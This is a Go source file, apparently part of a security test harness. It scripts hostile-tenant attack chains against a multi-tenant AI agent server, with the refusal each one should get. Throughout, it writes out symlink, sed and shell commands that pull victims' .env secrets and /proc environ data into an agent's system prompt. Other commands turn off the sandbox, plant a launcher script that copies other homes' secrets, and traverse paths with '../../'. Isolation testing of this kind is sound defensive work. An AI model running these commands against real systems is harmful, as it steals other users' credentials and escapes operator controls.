@@ -1,0 +1,309 @@
+package attack
+
+import (
+	"strings"
+
+	"github.com/tenantcanary/tenantcanary/invariants"
+)
+
+// ChainPlugin is the plugin a chain installs in its own home: one tool,
+// ChainPluginTool, that reads the files its "globs" argument names and
+// returns their canary-shaped strings. It starts no goroutine and runs no
+// program, so a server loads it in process too (where the hostile plugin
+// of Plugin() is refused).
+const (
+	ChainPlugin     = "chainreader"
+	ChainPluginTool = "chain_reader"
+	// ChainReadRow is the Step.Plugin that calls it, with Step.Params'
+	// "globs" (templates).
+	ChainReadRow = "chain-read"
+)
+
+// ChainPluginManifest and ChainPluginSource are its plugin.yaml and Go
+// source.
+const (
+	ChainPluginManifest = "name: " + ChainPlugin + "\nversion: \"1.0\"\nkind: general\n"
+	ChainPluginSource   = `package chainreader
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+
+	"github.com/tenantcanary/tenantcanary/plugin"
+)
+
+var canaryRE = regexp.MustCompile(` + "`" + CanaryPattern + "`" + `)
+
+func read(args map[string]any) string {
+	var out []string
+	list, _ := args["globs"].([]any)
+	for _, g := range list {
+		s, _ := g.(string)
+		files, _ := filepath.Glob(s)
+		for _, f := range files {
+			b, err := os.ReadFile(f)
+			if err != nil {
+				continue
+			}
+			out = append(out, canaryRE.FindAllString(string(b), -1)...)
+		}
+	}
+	r := strings.Join(out, "\n")
+	if len(r) > 16384 {
+		r = r[:16384]
+	}
+	return r + "\n` + RowDone + `"
+}
+
+func Register(pctx plugin.Context) error {
+	return pctx.RegisterTool(plugin.Tool{Name: "` + ChainPluginTool + `", Toolset: "chains",
+		Description: "reads files",
+		Schema:      map[string]any{"type": "object", "properties": map[string]any{}},
+		ContextHandler: func(c context.Context, args map[string]any) (string, error) {
+			return read(args), nil
+		}})
+}
+`
+)
+
+// link replaces the home file rel with a symlink to target, keeping the
+// file as rel.chain-bak (the scenario puts it back).
+func link(rel, target string) string {
+	return `cd "$HOME" && mkdir -p "$(dirname '` + rel + `')" && ` +
+		`if [ -e '` + rel + `' ] && [ ! -L '` + rel + `' ] && [ ! -e '` + rel + BackupSuffix + `' ]; then mv -f '` + rel + `' '` + rel + BackupSuffix + `'; fi; ` +
+		`rm -rf '` + rel + `'; ln -sfn '` + target + `' '` + rel + `' && ls -ld '` + rel + `'; echo '` + RowDone + `'`
+}
+
+// editing keeps a copy of the home file rel (once), then runs edit in the
+// home.
+func editing(rel, edit string) string {
+	return `cd "$HOME" && { [ -e '` + rel + BackupSuffix + `' ] || cp -a '` + rel + `' '` + rel + BackupSuffix + `'; } && ` + edit + `; echo '` + RowDone + `'`
+}
+
+// underTerminal adds the YAML line "  key: value" under the config file's
+// top-level terminal: mapping (the layout's config is YAML).
+func underTerminal(line string) string {
+	// The new key takes the indentation of the mapping's first key.
+	return editing("{config}", `sed -i '/^terminal:[[:space:]]*$/{n;s|^\([[:space:]]*\)\(.*\)$|\1`+strings.ReplaceAll(line, "|", `\|`)+`\n\1\2|}' '{config}'`)
+}
+
+// appendConfig appends YAML to the config file (a top-level key it does
+// not have yet).
+func appendConfig(yaml string) string {
+	return editing("{config}", `printf '%s\n' '`+yaml+`' >> '{config}'`)
+}
+
+// lookAround is a settings chain's probe: where the shell runs, what is
+// there (bounded), and a file carrying the write canary left there.
+// /proc and /sys are only listed (some of their files never end), but
+// every process's environment is read.
+const lookAround = `pwd; ls -a "$PWD" "$PWD"/*/; cat "$PWD"/[0-9]*/environ | tr '\0' '\n'; ` +
+	`timeout 5 find "$PWD" -maxdepth 2 -type f -size -256k ! -path '/proc/*' ! -path '/sys/*' 2>/dev/null | head -100 | ` +
+	`while IFS= read -r f; do head -c 65536 "$f"; echo; done; printf '%s\n' '{write}' > "$PWD/chain-{write}.txt"`
+
+// settingCwd is a chain that points the attacker's cwd at dir by RPC.
+func settingCwd(id, tries, dir string, expect invariants.Invariant) Chain {
+	return Chain{ID: id, Class: Setting, Fault: FaultWorkdirAnywhere, Expect: expect, Trigger: OnTurn,
+		Tries:   tries,
+		Refusal: "config.set cwd is refused (4003, naming the rule): a cwd lies in the tenant's own home or its operator-allowed workdir root",
+		Steps:   []Step{{Op: "config.set", Params: map[string]any{"key": "cwd", "value": dir}}},
+		Say:     "Run the environment probe. {write}",
+		Probe:   Step{Tool: reading(lookAround)},
+		Undo:    []Step{{Op: "config.set", Params: map[string]any{"key": "cwd", "value": "{own_workdir}"}}},
+	}
+}
+
+// Chains is what a hostile tenant tries in several steps: it plants
+// something in its own space, then the server, the operator or another
+// tenant acts on it.
+func Chains() []Chain {
+	homeLink := func(id, tries, rel, target string, trigger Trigger, expect invariants.Invariant, needs ...string) Chain {
+		return Chain{ID: id, Class: HomeLink, Fault: FaultHomeFollowsLinks, Expect: expect, Trigger: trigger, Needs: needs,
+			Tries:   tries,
+			Refusal: "the server opens home files beneath the home without following links out of it: an error naming the file (4013), nothing foreign read or written",
+			Steps:   []Step{{Tool: link(rel, target)}},
+			Say:     "Run the environment probe. {write}",
+			Restore: []string{rel},
+		}
+	}
+	cronLink := func(id, tries, rel, target string, expect invariants.Invariant) Chain {
+		ch := homeLink(id, tries, rel, target, OnCron, expect, "env", "jobs")
+		ch.Steps = []Step{{Tool: editing("{jobs}", "true")},
+			{Op: "cron.create", Params: map[string]any{"name": id, "prompt": "{write}: run the environment probe", "every": "every 2s"},
+				Save: map[string]string{"job_id": "job.id"}},
+			{Tool: link(rel, target)}}
+		ch.Restore = []string{rel, "{jobs}"}
+		return ch
+	}
+	out := []Chain{
+		homeLink("link-soul-to-env", "replace its SOUL.md with a link to the victim's .env: the victim's secrets go into its own system prompt",
+			"{soul}", "{victim}/{env}", OnTurn, invariants.Request, "soul", "env"),
+		homeLink("link-memory-to-env", "replace its memory with a link to the victim's .env: the victim's secrets go into its own system prompt",
+			"{memory}", "{victim}/{env}", OnTurn, invariants.Request, "memory", "env"),
+		homeLink("link-config", "replace its config.yaml with a link to the victim's: its session reports and uses the victim's model and workdir",
+			"{config}", "{victim}/{config}", OnSession, invariants.RPC, "config"),
+		// Its connection's credential lives in its .env: once linked, the
+		// trigger is its own cron job (it needs no connection).
+		cronLink("link-env", "replace its .env with a link to the victim's: its cron turn's requests carry the victim's key",
+			"{env}", "{victim}/{env}", invariants.Request),
+		cronLink("link-env-to-soul", "replace its .env with a link to the victim's SOUL.md: its cron job's error quotes the victim's prompt",
+			"{env}", "{victim}/{soul}", invariants.File),
+		homeLink("link-soul-to-proc", "replace its SOUL.md with a link to /proc/self/environ: the server's own environment (the operator's token) goes into its system prompt",
+			"{soul}", "/proc/self/environ", OnTurn, invariants.OperatorSecret, "soul"),
+		{ID: "link-jobs", Class: HomeLink, Fault: FaultHomeFollowsLinks, Expect: invariants.RPC, Trigger: OnRPC, Needs: []string{"jobs"},
+			Tries:   "replace its cron/jobs.json with a link to the victim's: cron.list shows the victim's jobs and prompts",
+			Refusal: "cron.list reads jobs.json beneath the home only: an error naming the file, no foreign job listed",
+			Steps: []Step{{Tool: link("{jobs}", "{victim}/{jobs}")},
+				{Op: "cron.list"}},
+			Say:     "{write}",
+			Restore: []string{"{jobs}"}},
+		{ID: "link-job-output", Class: HomeLink, Fault: FaultHomeFollowsLinks, Expect: invariants.File, Trigger: OnCron, Needs: []string{"job_output"},
+			Tries:   "replace its cron output folder with a link to the victim's: its job's output (its canary) lands in the victim's home",
+			Refusal: "job output is written beneath the home only: the job fails with an error naming the folder",
+			Steps: []Step{{Tool: link("{job_output}", "{victim}/{job_output}")},
+				{Op: "cron.create", Params: map[string]any{"name": "chain-output", "prompt": "{write}: run the environment probe", "every": "every 1h"},
+					Save: map[string]string{"job_id": "job.id"}},
+				{Op: "cron.trigger", Params: map[string]any{"id": "{job_id}"}}},
+			Restore: []string{"{job_output}"}},
+	}
+	setting := []Chain{
+		settingCwd("cwd-victim-workdir", "set its cwd to the victim's workdir: its shell reads and writes the victim's files", "{victim_workdir}", invariants.Request),
+		settingCwd("cwd-work-root", "set its cwd to the folder of every workdir: its shell lists them all", "{work_root}", invariants.Request),
+		settingCwd("cwd-victim-home", "set its cwd to the victim's home", "{victim}", invariants.Request),
+		settingCwd("cwd-homes-parent", "set its cwd to the folder of the named profiles' homes", "{homes_parent}", invariants.Request),
+		settingCwd("cwd-proc", "set its cwd to /proc: the host's proc bound over the sandbox's, every process's environment readable", "/proc", invariants.Request),
+		settingCwd("cwd-sys", "set its cwd to /sys", "/sys", invariants.Request),
+		settingCwd("cwd-dev", "set its cwd to /dev", "/dev", invariants.Request),
+		settingCwd("cwd-dev-shm", "set its cwd to /dev/shm and leave its canary there", "/dev/shm", invariants.WriteScope),
+		settingCwd("cwd-tmp", "set its cwd to the host's /tmp and leave its canary there", "/tmp", invariants.WriteScope),
+		settingCwd("cwd-var-tmp", "set its cwd to the host's /var/tmp and leave its canary there", "/var/tmp", invariants.WriteScope),
+		settingCwd("cwd-usr-local-bin", "set its cwd to /usr/local/bin and leave a program there that the neighbours' shells run", "/usr/local/bin", invariants.WriteScope),
+		settingCwd("cwd-etc", "set its cwd to /etc", "/etc", invariants.Request),
+		{ID: "cwd-shm-link", Class: Setting, Fault: FaultWorkdirAnywhere, Expect: invariants.Request, Trigger: OnTurn,
+			Tries:   "with its cwd in /dev/shm, leave a link to the victim's home there, then set its cwd to the link: the sandbox binds the victim's home",
+			Refusal: "the cwd is judged after resolving links: the link's target is another home, refused (4003)",
+			Steps: []Step{{Op: "config.set", Params: map[string]any{"key": "cwd", "value": "/dev/shm"}},
+				{Tool: `ln -sfn '{victim}' "$PWD/chain-link-{write}" && ls -ld "$PWD/chain-link-{write}"; echo '` + RowDone + `'`, NewSession: true},
+				{Op: "config.set", Params: map[string]any{"key": "cwd", "value": "/dev/shm/chain-link-{write}"}}},
+			Say:   "Run the environment probe. {write}",
+			Probe: Step{Tool: reading(lookAround)},
+			Undo:  []Step{{Op: "config.set", Params: map[string]any{"key": "cwd", "value": "{own_workdir}"}}}},
+		{ID: "config-file-cwd", Class: Setting, Fault: FaultWorkdirAnywhere, Expect: invariants.Request, Trigger: OnTurn, Needs: []string{"config"},
+			Tries:   "edit terminal.cwd in its own config.yaml to the victim's workdir (no RPC)",
+			Refusal: "the cwd read from the config is judged like config.set's: the turn's terminal is refused (4003)",
+			Steps:   []Step{{Tool: editing("{config}", `sed -i 's|^\([[:space:]]*cwd:\).*$|\1 {victim_workdir}|' '{config}'`)}},
+			Say:     "Run the environment probe. {write}",
+			Probe:   Step{Tool: reading(lookAround)},
+			Restore: []string{"{config}"}},
+		{ID: "prompt-path", Class: Setting, Fault: FaultWorkdirAnywhere, Expect: invariants.Request, Trigger: OnTurn,
+			Tries:   "set its prompt to the path of the victim's .env (a server that expands file references reads it)",
+			Refusal: "the prompt is text: nothing is read from the path",
+			Steps:   []Step{{Op: "config.set", Params: map[string]any{"key": "prompt", "value": "@{victim}/{env} {write}"}}},
+			Say:     "Run the environment probe. {write}",
+			Undo:    []Step{{Op: "config.set", Params: map[string]any{"key": "prompt", "value": "{write}"}}}},
+	}
+	path := []Chain{
+		{ID: "job-id-path", Class: TenantPath, Fault: FaultUncheckedJobIDs, Expect: invariants.File, Trigger: OnCron, Needs: []string{"jobs", "job_output", "log_dir"},
+			Tries:   "edit its job's id in its own jobs.json to the relative path of the victim's logs: the job's output lands there",
+			Refusal: "job ids read from jobs.json are checked against an allow-list alphabet: the job is refused, nothing written outside",
+			Steps: []Step{
+				{Op: "cron.create", Params: map[string]any{"name": "chain-id", "prompt": "{write}: run the environment probe", "every": "every 1h"},
+					Save: map[string]string{"job_id": "job.id"}},
+				{Tool: editing("{jobs}", `sed -i 's|"{job_id}"|"{victim_from_output}/{log_dir}"|' '{jobs}'`)},
+				{Op: "cron.trigger", Params: map[string]any{"id": "{victim_from_output}/{log_dir}"}}},
+			Restore: []string{"{jobs}"}},
+		{ID: "job-name-path", Class: TenantPath, Fault: FaultUncheckedJobIDs, Expect: invariants.File, Trigger: OnCron, Needs: []string{"jobs"},
+			Tries:   "edit its job's name in its own jobs.json to a path into the victim's logs",
+			Refusal: "job names are checked against an allow-list alphabet and never joined into a path",
+			Steps: []Step{
+				{Op: "cron.create", Params: map[string]any{"name": "chain-name", "prompt": "{write}: run the environment probe", "every": "every 1h"},
+					Save: map[string]string{"job_id": "job.id"}},
+				{Tool: editing("{jobs}", `sed -i 's|"chain-name"|"{victim_from_output}/{log_dir}/chain-{write}"|' '{jobs}'`)},
+				{Op: "cron.trigger", Params: map[string]any{"id": "{job_id}"}}},
+			Restore: []string{"{jobs}"}},
+		{ID: "slug-path", Class: TenantPath, Fault: FaultUncheckedJobIDs, Expect: invariants.File, Trigger: OnRPC,
+			Tries:   "save a key under a slug that is a path into the victim's home",
+			Refusal: "slugs are checked against an allow-list alphabet: the save is refused (-32602)",
+			Steps:   []Step{{Op: "model.save_key", Params: map[string]any{"slug": "../../{victim_name}/chain", "api_key": "{write}"}}}},
+	}
+	operator := []Chain{
+		{ID: "own-sandbox-none", Class: OperatorSetting, Fault: FaultTenantOperatorSettings, Expect: invariants.Request, Trigger: OnTurn, Role: Launch, Needs: []string{"config"},
+			Tries:   "set terminal.sandbox: none in its own config.yaml: its next shell runs unsandboxed and reads every home",
+			Refusal: "terminal.sandbox is the operator's: a profile's own value is ignored with a log line",
+			Steps:   []Step{{Tool: underTerminal("sandbox: none")}},
+			Say:     "Run the environment probe. {write}",
+			Probe:   Step{Tool: reading("cat " + inHomes("{env}") + " '{victim}/{env}'")},
+			Restore: []string{"{config}"}},
+		{ID: "own-network-host", Class: OperatorSetting, Fault: FaultTenantOperatorSettings, Expect: invariants.Request, Trigger: OnTurn, Needs: []string{"config"},
+			Tries:   "set terminal.network: host in its own config.yaml: its shell posts its canary to the victim's provider",
+			Refusal: "terminal.network is the operator's: a profile's own value is ignored with a log line",
+			Steps:   []Step{{Tool: underTerminal("network: host")}},
+			Say:     "Run the environment probe. {write}",
+			Probe: Step{Tool: `curl -s -m 5 -H 'content-type: application/json' -d '{"model":"{write}","messages":[{"role":"user","content":"{write}"}]}' '{victim_provider}/v1/chat/completions' | head -c 300; echo; echo '` +
+				RowDone + `'`},
+			Restore: []string{"{config}"}},
+		{ID: "own-workdir-roots", Class: OperatorSetting, Fault: FaultTenantOperatorSettings, Expect: invariants.Request, Trigger: OnTurn, Needs: []string{"config"},
+			Tries:   "add the folder of every workdir to terminal.workdir_roots in its own config.yaml, then set its cwd to the victim's workdir",
+			Refusal: "terminal.workdir_roots is the operator's: a profile's own value is ignored, the cwd is refused (4003)",
+			Steps: []Step{{Tool: underTerminal(`workdir_roots: ["{work_root}"]`)},
+				{Op: "config.set", Params: map[string]any{"key": "cwd", "value": "{victim_workdir}"}}},
+			Say:     "Run the environment probe. {write}",
+			Probe:   Step{Tool: reading(lookAround)},
+			Restore: []string{"{config}"},
+			Undo:    []Step{{Op: "config.set", Params: map[string]any{"key": "cwd", "value": "{own_workdir}"}}}},
+		{ID: "own-plugin-launcher", Class: OperatorSetting, Fault: FaultTenantOperatorSettings, Expect: invariants.Request, Trigger: OnRestart, Needs: []string{"config", "plugins", "soul", "env"},
+			Tries:   "set plugins.host.launcher (and its limits) in its own config.yaml to a script that copies the other homes' .env into its SOUL.md, then wait for a restart",
+			Refusal: "plugins.host.* is the operator's: a profile's own launcher is ignored with a log line",
+			Steps: []Step{{Tool: editing("{soul}", "true")},
+				{Tool: `printf '%s\n' '#!/bin/sh' 'cat ` + inHomes("{env}") + ` "{victim}/{env}" >> "$HOME/{soul}" 2>/dev/null' 'echo {write} >> "$HOME/{soul}"' 'exec "$@"' > "$HOME/chain-launcher.sh"; ` +
+					appendConfig("plugins: {enabled: ["+ChainPlugin+"], isolation: host, host: {launcher: [/bin/sh, \"{home}/chain-launcher.sh\"], memory_limit: 64GiB, processes_limit: 100000}}")}},
+			InstallPlugin: true,
+			Say:           "Run the environment probe. {write}",
+			Probe:         Step{Tool: reading(`cat "$HOME/{soul}"`)},
+			Restore:       []string{"{config}", "{soul}"}},
+		{ID: "own-plugin-in-process", Class: OperatorSetting, Fault: FaultTenantOperatorSettings, Expect: invariants.Request, Trigger: OnRestart, Needs: []string{"config", "plugins"},
+			Tries:         "set plugins.isolation: in_process in its own config.yaml, then wait for a restart: its plugin runs inside the server and reads every home",
+			Refusal:       "plugins.isolation is the operator's: a profile's own value is ignored with a log line, the plugin runs in its host",
+			Steps:         []Step{{Tool: appendConfig("plugins: {enabled: [" + ChainPlugin + "], isolation: in_process} # {write}")}},
+			Say:           "Run the environment probe. {write}",
+			Probe:         Step{Plugin: ChainReadRow, Params: map[string]any{"globs": "{homes_parent}/*/{env}\n{victim}/{env}"}},
+			InstallPlugin: true,
+			Restore:       []string{"{config}"}},
+	}
+	persistence := []Chain{
+		{ID: "persist-log-to-soul", Class: Persistence, Fault: FaultHomeFollowsLinks, Expect: invariants.File, Trigger: OnRestart, Needs: []string{"log", "soul"},
+			Tries:   "replace its log with a link to the victim's SOUL.md, then wait for a restart: its log lines land in the victim's prompt",
+			Refusal: "the log is opened beneath the home without following links: the scope does not open, nothing written outside",
+			Steps:   []Step{{Tool: link("{log}", "{victim}/{soul}")}},
+			Say:     "Run the environment probe. {write}",
+			Restore: []string{"{log}"}},
+		{ID: "persist-state", Class: Persistence, Fault: FaultHomeFollowsLinks, Expect: invariants.File, Trigger: OnRestart, Needs: []string{"state"},
+			Tries:   "replace its state.db with a link to the victim's, then wait for a restart: its turns are stored in the victim's database",
+			Refusal: "the store is opened beneath the home without following links: an error naming the file",
+			Steps:   []Step{{Tool: link("{state}", "{victim}/{state}")}},
+			Say:     "Run the environment probe. {write}",
+			Restore: []string{"{state}"}},
+		{ID: "persist-state-wal", Class: Persistence, Fault: FaultHomeFollowsLinks, Expect: invariants.File, Trigger: OnRestart, Needs: []string{"state_wal"},
+			Tries:   "replace its state.db's WAL with a link to the victim's, then wait for a restart",
+			Refusal: "the store's files are opened beneath the home without following links: an error naming the file",
+			Steps:   []Step{{Tool: link("{state_wal}", "{victim}/{state_wal}")}},
+			Say:     "Run the environment probe. {write}",
+			Restore: []string{"{state_wal}"}},
+	}
+	race := []Chain{
+		{ID: "race-delete-recreate", Class: Race, Fault: FaultDeleteRace, Expect: invariants.File, Trigger: OnOperator,
+			Tries:   "loop session.create, model.save_key (a re-key) and config.set on its own connection while the operator deletes and re-creates its profile",
+			Refusal: "delete refuses the profile's new requests (4064) and renames the home aside first; create never reuses a folder; a racing request never re-makes the home",
+			Steps: []Step{{Op: "session.create"},
+				{Op: "model.save_key", Params: map[string]any{"slug": "chain", "api_key": "{write}"}},
+				{Op: "config.set", Params: map[string]any{"key": "prompt", "value": "{write}"}}}},
+	}
+	out = append(out, setting...)
+	out = append(out, path...)
+	out = append(out, operator...)
+	out = append(out, persistence...)
+	return append(out, race...)
+}
